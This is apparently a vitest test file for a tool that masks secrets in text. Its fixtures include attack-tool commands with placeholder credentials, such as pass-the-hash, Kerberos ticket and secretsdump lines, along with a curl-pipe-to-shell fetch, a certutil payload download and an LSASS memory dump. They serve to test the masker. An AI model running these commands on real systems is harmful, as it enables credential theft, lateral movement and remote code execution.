import { describe, expect, it } from 'vitest';
import { createMasker } from '../mask.ts';

const masked = (text: string) => createMasker('t4gt4gt4').mask(text);

// Marks of tokens are put together, so that nobody takes this file for a leak.
const TO_MASK: readonly [text: string, secret: string][] = [
  ['net user x P@ss1word /add', 'P@ss1word'],
  ['net user svc_web "Summer 2026!" /add /domain', 'Summer 2026!'],
  ['tool --password=S3cret!x', 'S3cret!x'],
  ['xfreerdp /u:bob /p:S3cret!x /v:h', 'S3cret!x'],
  ['cmdkey /add:srv /user:bob /pass:S3cret!x', 'S3cret!x'],
  ['curl -u admin:S3cret!x https://h', 'S3cret!x'],
  ['curl -uadmin:S3cret!x https://h', 'S3cret!x'],
  ['mysql -u root -pS3cretx shop', 'S3cretx'],
  ['sshpass -p S3cret ssh bo@h', 'S3cret'],
  ["sshpass -p 'S3 cret' ssh bo@h", 'S3 cret'],
  ['psexec \\\\srv -u corp\\adm -p S3cret!x cmd', 'S3cret!x'],
  ['wmic /node:srv /user:adm /password:S3cret!x process list', 'S3cret!x'],
  ['plink -ssh bo@h -pw S3cret!x', 'S3cret!x'],
  ['smbclient //srv/c$ -U bob%S3cret!x', 'S3cret!x'],
  ['winexe -U CORP/bob%S3cret!x //h cmd', 'S3cret!x'],
  ['python psexec.py corp/adm:S3cret!x@10.0.0.5', 'S3cret!x'],
  ['wmiexec.py CORP/adm:"S3 cret"@10.0.0.5', 'S3 cret'],
  ['crackmapexec smb 10.0.0.5 -u adm -p S3cretx', 'S3cretx'],
  ['sekurlsa::pth /user:adm /domain:corp /ntlm:cc36cf7a8514893efccd332446158b1a', 'cc36cf7a8514893efccd332446158b1a'],
  ['Rubeus.exe asktgt /user:adm /rc4:cc36cf7a8514893efccd332446158b1a', 'cc36cf7a8514893efccd332446158b1a'],
  ['Rubeus.exe ptt /ticket:doIFmjCCBZagAwIBBaEDAgEWooIErzCCBKthggSn', 'doIFmjCCBZagAwIBBaEDAgEWooIErzCCBKthggSn'],
  ['evil-winrm -i h -u adm -H cc36cf7a8514893efccd332446158b1a', 'cc36cf7a8514893efccd332446158b1a'],
  [
    'secretsdump.py -hashes aad3b435b51404eeaad3b435b51404ee:cc36cf7a8514893efccd332446158b1a corp/adm@h',
    'cc36cf7a8514893efccd332446158b1a',
  ],
  ['htpasswd -b /etc/p bob S3cretx', 'S3cretx'],
  ['ldapsearch -x -D cn=adm -w S3cretx -b dc=corp', 'S3cretx'],
  ['redis-cli -h r -a S3cretx', 'S3cretx'],
  ['PGPASSWORD=S3cretx psql -h db', 'S3cretx'],
  ['7z a -pS3cretx out.7z data', 'S3cretx'],
  ['rar a -hpS3cretx out.rar data', 'S3cretx'],
  ['unzip -P S3cretx a.zip', 'S3cretx'],
  ['wget --http-password=S3cretx http://h', 'S3cretx'],
  ['gpg --batch --passphrase S3cretx -d a', 'S3cretx'],
  ['bitsadmin /SetCredentials job SERVER BASIC bob S3cretx', 'S3cretx'],
  ['sc create s binPath= x obj= corp\\bob password= S3cretx', 'S3cretx'],
  ['echo S3cretx | sudo -S id', 'S3cretx'],
  ['setx DB_PASSWORD S3cretx', 'S3cretx'],
  ['[Environment]::SetEnvironmentVariable("API_TOKEN","S3cretx99","User")', 'S3cretx99'],
  ['ngrok authtoken 2Abc3Def4Ghi5Jkl6Mno7Pqr8', '2Abc3Def4Ghi5Jkl6Mno7Pqr8'],
  ['ngrok config add-authtoken 2Abc3Def4Ghi5Jkl6Mno7Pqr8', '2Abc3Def4Ghi5Jkl6Mno7Pqr8'],
  ['tailscale up --authkey tskey' + '-auth-kAbCdEf1CNTRL-xyz123', 'tskey' + '-auth-kAbCdEf1CNTRL-xyz123'],
  ['New-Object Net.NetworkCredential("bob","S3cretx")', 'S3cretx'],
  ['aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
  [
    'aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  ],
  ['key AIzaS' + 'yD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY', 'AIzaS' + 'yD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY'],
  ['curl -H x ya29' + '.a0AfH6SMBx1234567890abcdefgh', 'ya29' + '.a0AfH6SMBx1234567890abcdefgh'],
  ['GOCSPX' + '-abcdefghijklmnopqrstuvwx', 'GOCSPX' + '-abcdefghijklmnopqrstuvwx'],
  ['https://x.blob.core.windows.net/c?sv=2022&sig=a1B2c3D4%2Fe5F6%3D&se=2026', 'a1B2c3D4%2Fe5F6%3D'],
  [
    'az login --service-principal -u id -p abc8Q~abcdefghijklmnopqrstuvwxyz012345',
    'abc8Q~abcdefghijklmnopqrstuvwxyz012345',
  ],
  ['seen abc8Q~abcdefghijklmnopqrstuvwxyz012345 in log', 'abc8Q~abcdefghijklmnopqrstuvwxyz012345'],
  ['xoxb' + '-1234567890-abcdefghij', 'xoxb' + '-1234567890-abcdefghij'],
  ['xapp' + '-1-A012-345-abcdefabcdef', 'xapp' + '-1-A012-345-abcdefabcdef'],
  ['curl https://hooks.slack.co' + 'm/services/T0001/B0002/abcdEFGH1234ijkl', 'abcdEFGH1234ijkl'],
  [
    'https://corp.webhook.office.com/webhookb2/1b2c3d4e-aaaa-bbbb-cccc-0123456789ab@f00/IncomingWebhook/0123456789abcdef0123456789abcdef/x',
    '0123456789abcdef0123456789abcdef',
  ],
  ['https://discord.com/ap' + 'i/webhooks/123456789012345678/abcDEF-ghi_JKL1234567890', 'abcDEF-ghi_JKL1234567890'],
  [
    'https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage',
    'AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw',
  ],
  ['sk_live' + '_51H8abcdefghijklmnop', 'sk_live' + '_51H8abcdefghijklmnop'],
  ['whsec' + '_abcdefghijklmnop123456', 'whsec' + '_abcdefghijklmnop123456'],
  ['shpat' + '_0123456789abcdef0123456789abcdef', 'shpat' + '_0123456789abcdef0123456789abcdef'],
  ['SG' + '.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyz0123456789', 'SG' + '.abcdefghijklmnopqrstuv'],
  ['pypi' + '-AgEIcHlwaS5vcmcCJDU2N2Y4', 'pypi' + '-AgEIcHlwaS5vcmcCJDU2N2Y4'],
  ['npm' + '_abcdefghijklmnopqrstuvwxyz0123456789', 'npm' + '_abcdefghijklmnopqrstuvwxyz0123456789'],
  ['hvs' + '.CAESIJabcdefghijklmnop', 'hvs' + '.CAESIJabcdefghijklmnop'],
  ['AGE-SECRET-KEY-' + '1QQPQYZQ0123456789ABCDEF', 'AGE-SECRET-KEY-' + '1QQPQYZQ0123456789ABCDEF'],
  ['x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig-nature y', 'eyJhbGciOiJIUzI1NiJ9'],
  ['token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0', 'eyJzdWIiOiIxIn0'],
  ['-----BEGIN RSA PRIVATE KEY-----\nMIIEabc\n-----END RSA PRIVATE KEY-----', 'MIIEabc'],
  ['-----BEGIN RSA PRIVATE KEY-----\nMIIEabc', 'MIIEabc'],
  ['-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1r', 'b3BlbnNzaC1r'],
  ['-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYabc\n-----END PGP PRIVATE KEY BLOCK-----', 'lQOYabc'],
  ['PuTTY-User-Key-File-2: ssh-rsa\nPrivate-Lines: 8\nAAABAQCabc\nPrivate-MAC: 1234abcd', 'AAABAQCabc'],
  ['https://h/x?access_token=abc123def456', 'abc123def456'],
  ['https://h/cb?code=4%2F0AX4XfWabc&state=1', '0AX4XfWabc'],
  ['https://h/reset?t=1&reset_token=abcdef99', 'abcdef99'],
  [
    'https://b.s3.amazonaws.com/k?X-Amz-Credential=AKI' +
      'AABCDEFGHIJKLMNOP%2F2026&X-Amz-Signature=0123456789abcdef0123456789abcdef',
    '0123456789abcdef0123456789abcdef',
  ],
  ['https://h/x;jsessionid=0A1B2C3D4E5F', '0A1B2C3D4E5F'],
  ['GET /x PHPSESSID=abc123def456 x', 'abc123def456'],
  ['Set-Cookie: sid=abc123; Path=/', 'abc123'],
  ["curl -b 'session=abc123def' https://h", 'abc123def'],
  ['curl --cookie "sid=abc123def" https://h', 'abc123def'],
  ['Authorization: Basic YWRtaW46aHVudGVyMg==', 'YWRtaW46aHVudGVyMg=='],
  ['Proxy-Authorization: Basic YWRtaW46aHVudGVyMg==', 'YWRtaW46aHVudGVyMg=='],
  ['Invoke-RestMethod -Headers @{Authorization="Bearer abc.def"}', 'abc.def'],
  ['{"Authorization": "ApiKey abcDEF123456"}', 'abcDEF123456'],
  ['Driver=x;Server=db;Uid=sa;Pwd=S3cretx;', 'S3cretx'],
  ['postgres://app:S3cretx@db:5432/shop', 'S3cretx'],
  ['mongodb+srv://app:S3cretx@c.mongodb.net', 'S3cretx'],
  ['redis://:S3cretx@r:6379', 'S3cretx'],
  ['Endpoint=sb://x/;SharedAccessKeyName=R;SharedAccessKey=abcDEF123=', 'abcDEF123='],
  ['hxxps[://]bob:S3cretx[@]h[.]example/', 'S3cretx'],
  ['hxxps://bob:S3cretx@h[.]example/', 'S3cretx'],
  ['body {"user":"bo","password":"S3cretx"}', 'S3cretx'],
  ['db:\n  password: S3cretx\n', 'S3cretx'],
  ['<add key="x"/><password>S3cretx</password>', 'S3cretx'],
  ['<add name="a" password="S3cretx"/>', 'S3cretx'],
  ['<Password><Value>UwAzAGMAcgBlAHQA</Value></Password>', 'UwAzAGMAcgBlAHQA'],
  ['cpassword="j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw"', 'j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw'],
  ['the password is S3cretx.', 'S3cretx'],
  ['logged in with password S3cretx!', 'S3cretx'],
  ['la password è S3cretx', 'S3cretx'],
  ['user/pass: admin/S3cretx', 'S3cretx'],
  ['root:$6$abcdefgh$0123456789abcdefghijklmnop:19000:0', '$6$abcdefgh$0123456789abcdefghijklmnop'],
  ['$2b$12$abcdefghijklmnopqrstuvABCDEFGHIJKLMNOPQRSTUVWXYZ01234', '$2b$12$abcdefghijklmnopqrstuv'],
  [
    'Administrator:500:aad3b435b51404eeaad3b435b51404ee:cc36cf7a8514893efccd332446158b1a:::',
    'cc36cf7a8514893efccd332446158b1a',
  ],
  ['bob::CORP:1122334455667788:0011223344556677889900AABBCCDDEE:0101', '0011223344556677889900AABBCCDDEE'],
  ['$krb5tgs$23$*svc$CORP$x*$0123456789abcdef0123456789abcdef$abcdef', '0123456789abcdef0123456789abcdef'],
  ['netsh wlan show profile name=Guest key=clear\n Key Content : S3cretx9', 'S3cretx9'],
  ['snmpwalk -v2c -c S3cretx 10.0.0.1', 'S3cretx'],
  ['Your code is 483920', '483920'],
  ['rclone config create r mega user bo pass S3cretxx', 'S3cretxx'],
];

it.each(TO_MASK)('masks the secret of %j', (text, secret) => {
  expect(masked(text)).not.toContain(secret);
  expect(masked(text)).toContain('[[SECRET_1_t4gt4gt4]]');
});

it('masks the secret alone, and not what stands behind it', () => {
  expect(masked('rar.exe a -hpMyPass C:\\out.rar C:\\Shares')).toBe(
    'rar.exe a -hp[[SECRET_1_t4gt4gt4]] C:\\out.rar C:\\Shares',
  );
});

const base64 = (text: string, encoding: 'utf8' | 'utf16le' = 'utf8') => Buffer.from(text, encoding).toString('base64');

describe('in Base64', () => {
  it.each([
    ['a command of PowerShell', base64('net user x P@ss1word /add', 'utf16le')],
    ['a command of a shell', base64('mysql -u root -pS3cretx shop')],
    ['what HTTP sends', base64('admin:hunter22')],
    ['an address', base64('send it to anna.bianchi@shop.example')],
    ['in two layers', base64(`echo ${base64('password=S3cretx99')}`)],
  ])('%s is masked whole', (_what, blob) => {
    expect(masked(`run ${blob} now`)).toBe('run [[SECRET_1_t4gt4gt4]] now');
  });
  it.each([
    base64('Write-Host "The till is open"', 'utf16le'),
    base64('certutil -urlcache -split -f http://203.0.113.9/a.exe'),
    'C:/Program/Files/Common/Files/microsoft/shared/ink',
    '/usr/local/lib/python3/dist-packages/requests',
    'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  ])('what hides nothing stays: %s', (blob) => {
    expect(masked(`run ${blob} now`)).toBe(`run ${blob} now`);
  });
});

it.each([
  'docker pull repo/image:tag@sha256:abcdef',
  'the password is expired',
  'password reset requested',
  'password policy changed 2026',
  'Password Spraying (T1110.003)',
  'Credentials from Password Stores, T1555.003',
  'access token revoked',
  'Token: none',
  'code 4625 in Security Log',
  'Your code has 3 errors',
  'pin the tab 2',
  'https://h.example/list?page=2&code=12',
  'ldapsearch -x -b dc=corp',
  'redis-cli -h till-12 info',
  '7z a out.7z data',
  'curl -s http://203.0.113.9/a.sh | sh',
  'htpasswd -c /etc/p bob',
  'hash: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  'MD5 cc36cf7a8514893efccd332446158b1a of a.exe',
  'setx PATH C:\\Tools',
  'reg query HKLM\\SAM /v Name',
  'net user helper /add',
  'net use Z: \\\\srv\\share',
  'rundll32 comsvcs.dll, MiniDump 624 C:\\t.dmp full',
  'ssh -i key.pem bo@till-12',
  'Set-Cookie was missing',
  'PRIVATE KEY file found at /home/bo/.ssh/id_rsa',
  'S-1-5-21-3623811015-3361044348-30300820-1013',
  'GUID {6B29FC40-CA47-1067-B31D-00DD010662DA}',
])('is no secret: %s', (text) => {
  expect(masked(text)).toBe(text);
});
